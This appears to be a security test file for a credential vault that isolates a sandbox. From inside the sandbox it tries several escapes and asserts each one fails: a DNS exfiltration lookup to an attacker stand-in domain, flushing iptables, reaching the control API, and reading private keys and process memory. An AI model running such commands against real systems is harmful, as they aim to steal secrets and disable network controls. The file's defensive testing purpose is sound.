// Attempts to get around the vault from inside a real sandbox, as the unprivileged sandbox user, with
// the real vault running. Each must fail, and none may reach a listener the sandbox is not meant for.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestSandbox, type TestSandbox } from '../../vault/testbed.ts';
import { isRoot, warnIfSkipped } from '../support/root.ts';
import { controlRequest, setCredentials, setPolicy } from '../support/vault-client.ts';

const REAL = 'ghp_BypassRealSecret0123456789abcdefABCDEF';

warnIfSkipped('vault bypass attempts (tests/vault/bypass.test.ts)');

describe.skipIf(!isRoot)('bypassing the vault from inside the sandbox', () => {
  let sandbox: TestSandbox;
  let controlPort: number;

  beforeAll(async () => {
    sandbox = await createTestSandbox();
    controlPort = Number(new URL(sandbox.controlUrl).port);
    await setCredentials(sandbox, [{ name: 'GITHUB_TOKEN', value: REAL, hosts: ['api.github.com'] }]);
    await setPolicy(sandbox, { default: 'deny', allow: ['api.github.com'] });
  });
  afterAll(async () => sandbox?.close());

  it('DNS answers only allowed names, with the vault address, and forwards nothing', async () => {
    const allowed = await sandbox.exec(['dig', '+short', '+tries=1', '+time=2', 'api.github.com', 'A']);
    expect(allowed.stdout.trim()).toBe(sandbox.hostAddress);
    const unlisted = await sandbox.exec(['dig', '+tries=1', '+time=2', 'exfil-data-1234.attacker.example', 'A']);
    expect(unlisted.stdout).toContain('status: NXDOMAIN');
    const aaaa = await sandbox.exec(['dig', '+short', '+tries=1', '+time=2', 'api.github.com', 'AAAA']);
    expect(aaaa.stdout.trim()).toBe('');
  });

  it('a raw IP on another port reaches nothing: not the control API, not the host', async () => {
    for (const url of [`http://${sandbox.hostAddress}:${controlPort}/v1/health`, `http://${sandbox.hostAddress}:22/`, `http://127.0.0.1:${controlPort}/v1/health`]) {
      const r = await sandbox.exec(['curl', '-sS', '--connect-timeout', '2', '-o', '/dev/null', '-w', '%{http_code}', url]);
      expect(r.code, url).not.toBe(0);
      expect(r.stdout, url).toBe('000');
    }
  });

  it('UDP to anything but the vault DNS goes nowhere', async () => {
    const py = `import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1)
try:
  s.sendto(b'x',('${sandbox.hostAddress}',${controlPort}));print(s.recvfrom(10))
except Exception as e: print(type(e).__name__)`;
    const r = await sandbox.exec(['python3', '-c', py]);
    expect(r.stdout.trim()).toMatch(/PermissionError|TimeoutError|timeout/);
  });

  it('IPv6 is off', async () => {
    const r = await sandbox.exec(['curl', '-6', '-sS', '--connect-timeout', '2', 'https://[::1]/']);
    expect(r.code).not.toBe(0);
    const addr = await sandbox.exec(['ip', '-6', 'addr']);
    expect(addr.stdout.trim()).toBe('');
  });

  it('the sandbox user cannot change the rules', async () => {
    const flush = await sandbox.exec(['iptables', '-t', 'nat', '-F']);
    expect(flush.code).not.toBe(0);
    expect(flush.stderr).toMatch(/Permission denied|not permitted|must be root/i);
    const policy = await sandbox.exec(['iptables', '-P', 'OUTPUT', 'ACCEPT']);
    expect(policy.code).not.toBe(0);
    const dns = await sandbox.exec(['dig', '+short', '+tries=1', '+time=2', 'api.github.com']);
    expect(dns.stdout.trim()).toBe(sandbox.hostAddress);
  });

  it('the control API refuses a missing or wrong token and never returns the value', async () => {
    const none = await fetch(`${sandbox.controlUrl}/v1/credentials`);
    expect(none.status).toBe(401);
    const wrong = await controlRequest({ ...sandbox, controlToken: 'f'.repeat(64) }, 'GET', '/v1/credentials');
    expect(wrong.status).toBe(401);
    for (const path of ['/v1/credentials', '/v1/policy', '/v1/audit', '/v1/health', '/v1/ca.pem']) {
      const text = await (await controlRequest(sandbox, 'GET', path)).text();
      expect(text, path).not.toContain(REAL);
    }
  });

  it('no file the sandbox can read holds a private key, and the vault process is closed to it', async () => {
    // The PEM armour is assembled here so this file's own text (and caches of it) never matches.
    const armour = ['-----BEGIN', '( EC)? PRIVATE KEY-----'].join('');
    const grep = await sandbox.exec(['sh', '-c', `grep -rlsIE -e '${armour}' /tmp /var/tmp /run /dev/shm /etc/netns "$HOME" 2>/dev/null; true`], { timeoutMs: 60_000 });
    expect(grep.stdout.trim()).toBe('');
    expect(readFileSync(sandbox.caFile, 'utf8')).not.toMatch(/PRIVATE/);
    for (const file of ['environ', 'mem', 'maps']) {
      const r = await sandbox.exec(['sh', '-c', `head -c 64 /proc/${sandbox.vaultPid}/${file} | od -c | head -2`]);
      expect(r.stderr, file).toMatch(/Permission denied/);
    }
    // cmdline is world-readable by design, so it must hold nothing secret.
    const cmdline = readFileSync(`/proc/${sandbox.vaultPid}/cmdline`, 'utf8');
    expect(cmdline).not.toContain(REAL);
    expect(cmdline).not.toContain(sandbox.controlToken);
  });

  it('the vault refuses interception connections from anywhere but its sandbox', async () => {
    const r = await fetch(`https://${sandbox.hostAddress}:${sandbox.ports.tls}/`).catch((e: Error) => e);
    expect(r).toBeInstanceOf(Error);
  });
});
